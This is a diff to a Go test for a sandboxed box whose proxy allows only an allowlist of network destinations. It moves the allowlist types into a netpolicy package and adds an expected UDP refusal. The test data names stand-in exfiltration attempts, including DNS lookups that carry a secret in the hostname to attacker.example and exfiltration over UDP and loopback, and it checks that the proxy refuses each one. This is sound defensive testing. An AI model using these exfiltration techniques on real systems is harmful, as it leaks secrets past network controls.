@@ -5,6 +5,7 @@ import (
 	"encoding/json"
 	"errors"
 	"fmt"
+	"github.com/baton-agent/baton/internal/netpolicy"
 	"net"
 	"net/http"
 	"net/http/httptest"
@@ -94,7 +95,7 @@ func boxMain(spec string) int {
 	cmd := exec.Command(s.Argv[0], s.Argv[1:]...)
 	env := slices.DeleteFunc(os.Environ(), func(kv string) bool {
 		k, _, _ := strings.Cut(kv, "=")
-		return k == boxVar || slices.Contains(ProxyVars, k)
+		return k == boxVar
 	})
 	cmd.Env = append(env, s.Env...)
 	cmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr
@@ -113,9 +114,9 @@ func boxMain(spec string) int {
 // testBox is a proxy outside and the test binary as a box that runs one
 // command inside.
 type testBox struct {
-	allow    Allowlist
+	allow    netpolicy.Allowlist
 	resolver *net.Resolver
-	list     []RefusalCount // what the last run's proxy refused
+	list     []netpolicy.RefusalCount // what the last run's proxy refused
 	mu       sync.Mutex
 	live     []string
 }
@@ -124,7 +125,7 @@ type testBox struct {
 // code.
 func (b *testBox) run(t *testing.T, script string) (string, int) {
 	t.Helper()
-	nb, err := Open(b.allow, func(r Refusal) {
+	nb, err := Open(b.allow, func(r netpolicy.Refusal) {
 		b.mu.Lock()
 		b.live = append(b.live, r.String())
 		b.mu.Unlock()
@@ -232,7 +233,7 @@ func TestBoxReachesOnlyItsAllowlist(t *testing.T) {
 	// as the machine's own (systemd-resolved's 127.0.0.53) is.
 	hostResolver, resolverQueries := startCountingDNS(t)
 	var err error
-	b.allow, err = Parse(model.String(), fmt.Sprintf("registry.example:%d", registry.Port()), byAddress.String())
+	b.allow, err = netpolicy.Parse(model.String(), fmt.Sprintf("registry.example:%d", registry.Port()), byAddress.String())
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -285,7 +286,7 @@ try "query the machine's resolver" env %[6]s="%[8]s exfil-by-loopback.attacker.e
 	for _, want := range []string{
 		"http " + api.String(), "connect " + api.String(), fmt.Sprintf("http attacker.example:%d", elsewhere.Port()),
 		"dns attacker.example", "dns secret-is-hunter2.attacker.example",
-		"connect " + elsewhere.String(), "dns exfil-by-udp.attacker.example",
+		"connect " + elsewhere.String(), "dns exfil-by-udp.attacker.example", "udp " + hostResolver,
 	} {
 		if !slices.Contains(got, want) {
 			t.Errorf("refusals %q lack %q", got, want)
